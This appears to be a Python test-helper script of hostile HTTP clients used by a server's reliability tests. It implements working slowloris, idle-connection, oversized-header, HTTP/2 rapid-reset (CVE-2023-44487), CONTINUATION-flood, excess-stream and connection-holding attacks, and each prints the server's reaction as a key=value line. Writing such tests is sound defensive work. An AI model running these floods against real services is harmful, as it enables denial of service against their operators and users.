"""Hostile HTTP clients for tests/tests/reliability.rs: each does one attack against a
service address and prints what the server did about it, one `key=value` line, so the
test asserts on what happened rather than on timing alone.

HTTP/2 frames are built with the h2 package (its state machine for the normal parts,
hyperframe for the frames no well-behaved client would send).
"""

import argparse
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame


def host_port(text):
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def connect(target, timeout=10):
    s = socket.create_connection(host_port(target), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def slowloris(args):
    """An unfinished request head, a byte at a time: how long until the server closes."""
    s = connect(args.connect)
    start = time.monotonic()
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
    s.settimeout(0.2)
    sent = 0
    while time.monotonic() - start < args.limit:
        try:
            if s.recv(4096) == b"":
                break
        except socket.timeout:
            pass
        except ConnectionResetError:
            break
        try:
            s.sendall(b"X-a: b\r\n"[sent % 8 : sent % 8 + 1])
            sent += 1
        except (BrokenPipeError, ConnectionResetError):
            break
    else:
        print(f"open_after_ms={int(args.limit * 1000)}")
        return
    print(f"closed_after_ms={int((time.monotonic() - start) * 1000)}")


def idle(args):
    """One request, then silence: how long until the server closes the idle connection."""
    s = connect(args.connect)
    s.sendall(b"GET /who HTTP/1.1\r\nHost: x\r\n\r\n")
    got = s.recv(65536)
    start = time.monotonic()
    s.settimeout(args.limit)
    try:
        while s.recv(65536):
            pass
        print(f"status={status_of(got)} closed_after_ms={int((time.monotonic() - start) * 1000)}")
    except socket.timeout:
        print(f"status={status_of(got)} open_after_ms={int(args.limit * 1000)}")


def status_of(response):
    line = response.split(b"\r\n", 1)[0].decode(errors="replace")
    parts = line.split(" ")
    return parts[1] if len(parts) > 1 else "none"


def raw(args):
    """Send bytes as given (\\r\\n escapes allowed), print the status of each response."""
    data = args.data.encode().decode("unicode_escape").encode("latin-1")
    if args.header_bytes:
        # One header this large, ahead of the end of the head.
        head, _, rest = data.partition(b"\r\n\r\n")
        data = head + b"\r\nX-Big: " + b"a" * args.header_bytes + b"\r\n\r\n" + rest
    s = connect(args.connect)
    s.sendall(data)
    s.settimeout(5)
    got = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    statuses = [
        line.split(b" ")[1].decode()
        for line in got.split(b"\r\n")
        if line.startswith(b"HTTP/1.1 ") or line.startswith(b"HTTP/1.0 ")
    ]
    print("statuses=" + ",".join(statuses or ["none"]))


def h2_connection(target):
    s = connect(target)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def request_headers(authority, method="GET", path="/who"):
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]


def read_events(s, conn, timeout):
    """Events until `timeout` passes with nothing to read, or the connection ends."""
    s.settimeout(timeout)
    events, closed = [], False
    while True:
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            closed = True
            break
        if not data:
            closed = True
            break
        try:
            events.extend(conn.receive_data(data))
        except h2.exceptions.ProtocolError:
            closed = True
            break
        out = conn.data_to_send()
        if out:
            try:
                s.sendall(out)
            except (BrokenPipeError, ConnectionResetError):
                closed = True
                break
        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
            break
    return events, closed


def goaway(events):
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            return f"goaway={e.error_code.name}"
    return "goaway=none"


def rapid_reset(args):
    """HEADERS then RST_STREAM, over and over (CVE-2023-44487): how many streams the
    client got to open before the server ended the connection."""
    s, conn = h2_connection(args.connect)
    read_events(s, conn, 0.5)
    opened = 0
    ended = False
    for i in range(args.streams):
        stream = 1 + 2 * i
        conn.send_headers(stream, request_headers(args.authority), end_stream=True)
        conn.reset_stream(stream)
        try:
            s.sendall(conn.data_to_send())
        except (BrokenPipeError, ConnectionResetError):
            ended = True
            break
        opened += 1
        if i % 50 == 49:
            events, closed = read_events(s, conn, 0.001)
            if closed or any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                print(f"streams={opened} {goaway(events)}")
                return
    events, closed = read_events(s, conn, 2)
    print(f"streams={opened} {goaway(events)} closed={closed or ended}")


def continuation(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the header
    block: how many the server took before it ended the connection."""
    s, conn = h2_connection(args.connect)
    read_events(s, conn, 0.5)
    block = conn.encoder.encode(request_headers(args.authority))
    first = HeadersFrame(1)
    first.flags.add("END_STREAM")
    first.data = block
    s.sendall(first.serialize())
    sent = 0
    filler = conn.encoder.encode([("x-flood", "a" * 1000)])
    for _ in range(args.frames):
        frame = ContinuationFrame(1)
        frame.data = filler
        try:
            s.sendall(frame.serialize())
        except (BrokenPipeError, ConnectionResetError):
            break
        sent += 1
    events, closed = read_events(s, conn, 2)
    print(f"frames={sent} {goaway(events)} closed={closed}")


def streams(args):
    """Open more streams than the server allows (requests whose bodies never end) and
    count how many it refused; print the limit it announced."""
    s, conn = h2_connection(args.connect)
    limit, deadline = None, time.monotonic() + 5
    # The server's SETTINGS first, however long a busy machine takes to send them.
    while limit is None and time.monotonic() < deadline:
        events, _ = read_events(s, conn, 0.1)
        for e in events:
            if isinstance(e, h2.events.RemoteSettingsChanged):
                changed = e.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if changed is not None:
                    limit = changed.new_value
    # h2 would refuse to exceed the server's limit itself: send the frames by hand.
    extra = args.extra
    wanted = (limit or 100) + extra
    for i in range(wanted):
        frame = HeadersFrame(1 + 2 * i)
        frame.flags.add("END_HEADERS")
        frame.data = conn.encoder.encode(request_headers(args.authority, "POST", "/who"))
        s.sendall(frame.serialize())
    s.settimeout(2)
    refused = 0
    buf = b""
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        if not data:
            break
        buf += data
    # Walk the raw frames: RST_STREAM (type 3) with REFUSED_STREAM (7).
    at = 0
    while at + 9 <= len(buf):
        length = int.from_bytes(buf[at : at + 3], "big")
        kind = buf[at + 3]
        payload = buf[at + 9 : at + 9 + length]
        if kind == 3 and len(payload) == 4 and int.from_bytes(payload, "big") == 7:
            refused += 1
        at += 9 + length
    print(f"limit={limit} opened={wanted} refused={refused}")


def h2_idle(args):
    """One request on an HTTP/2 connection, then silence: when the response ended, and
    when the server said GOAWAY (or closed), so the caller sees whether the connection
    was ended while the request was in flight and how long it was idle after it.

    GOAWAY is read off the raw frames: h2's state machine stops at the first GOAWAY and
    rejects the PING that a graceful shutdown sends with it, losing the events."""
    s, conn = h2_connection(args.connect)
    start = time.monotonic()
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, request_headers(args.authority, "GET", args.path), end_stream=True)
    s.sendall(conn.data_to_send())
    s.settimeout(0.02)
    status, answered, terminated, raw = "none", None, None, b""
    while time.monotonic() < start + args.limit and terminated is None:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            data = b""
        now = time.monotonic()
        if not data:
            terminated = (now, "closed")
            break
        raw += data
        while len(raw) >= 9 and len(raw) >= 9 + int.from_bytes(raw[:3], "big"):
            length, kind = int.from_bytes(raw[:3], "big"), raw[3]
            if kind == 7 and length >= 8:
                code = int.from_bytes(raw[13:17], "big")
                terminated = (now, h2.errors.ErrorCodes(code).name)
            raw = raw[9 + length :]
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            events = []
        for e in events:
            if isinstance(e, h2.events.ResponseReceived):
                status = dict(e.headers).get(":status", "none")
            if isinstance(e, h2.events.StreamEnded) and e.stream_id == stream:
                answered = now
        out = conn.data_to_send()
        if out and terminated is None:
            s.sendall(out)
    ms = lambda t: int((t - start) * 1000)  # noqa: E731
    print(
        f"status={status} answered_ms={ms(answered) if answered else 'never'} "
        f"goaway={terminated[1] if terminated else 'none'} goaway_ms={ms(terminated[0]) if terminated else 'never'}"
    )


def hold(args):
    """Open `count` connections to a greeting echo server (sy-probe serve), `batch` at a
    time, each batch waiting (2 s at most) for its greetings; print how many got one, then
    keep them all open until stdin closes (or `seconds` pass). Batches keep the pace of
    clients arriving, not of one burst landing in the listen backlog at once."""
    import select

    conns, greeted, failed, tried = [], 0, 0, 0
    while tried < args.count:
        batch = []
        for _ in range(min(args.batch, args.count - tried)):
            tried += 1
            try:
                batch.append(connect(args.connect, timeout=3))
            except OSError:
                failed += 1
        conns.extend(batch)
        waiting = {s.fileno(): s for s in batch}
        deadline = time.monotonic() + 2
        while waiting and time.monotonic() < deadline:
            ready, _, _ = select.select(list(waiting.values()), [], [], max(0, deadline - time.monotonic()))
            for s in ready:
                del waiting[s.fileno()]
                try:
                    ok = s.recv(256).startswith(b"HELLO ")
                except OSError:
                    ok = False
                greeted += ok
                failed += not ok
        failed += len(waiting)
    print(f"greeted={greeted} failed={failed}", flush=True)
    select.select([sys.stdin], [], [], args.seconds)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("--connect", required=True)
    s.add_argument("--limit", type=float, default=10)
    s = sub.add_parser("idle")
    s.add_argument("--connect", required=True)
    s.add_argument("--limit", type=float, default=10)
    s = sub.add_parser("raw")
    s.add_argument("--connect", required=True)
    s.add_argument("--data", required=True)
    s.add_argument("--header-bytes", type=int, default=0)
    s = sub.add_parser("hold")
    s.add_argument("--connect", required=True)
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--batch", type=int, default=10)
    s.add_argument("--seconds", type=float, default=60)
    for name in ("rapid-reset", "continuation", "streams", "h2-idle"):
        s = sub.add_parser(name)
        s.add_argument("--connect", required=True)
        s.add_argument("--authority", default="web")
    sub.choices["rapid-reset"].add_argument("--streams", type=int, default=5000)
    sub.choices["continuation"].add_argument("--frames", type=int, default=5000)
    sub.choices["streams"].add_argument("--extra", type=int, default=5)
    sub.choices["h2-idle"].add_argument("--path", default="/who")
    sub.choices["h2-idle"].add_argument("--limit", type=float, default=10)
    args = p.parse_args()
    {
        "slowloris": slowloris,
        "idle": idle,
        "raw": raw,
        "hold": hold,
        "rapid-reset": rapid_reset,
        "continuation": continuation,
        "streams": streams,
        "h2-idle": h2_idle,
    }[args.cmd](args)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
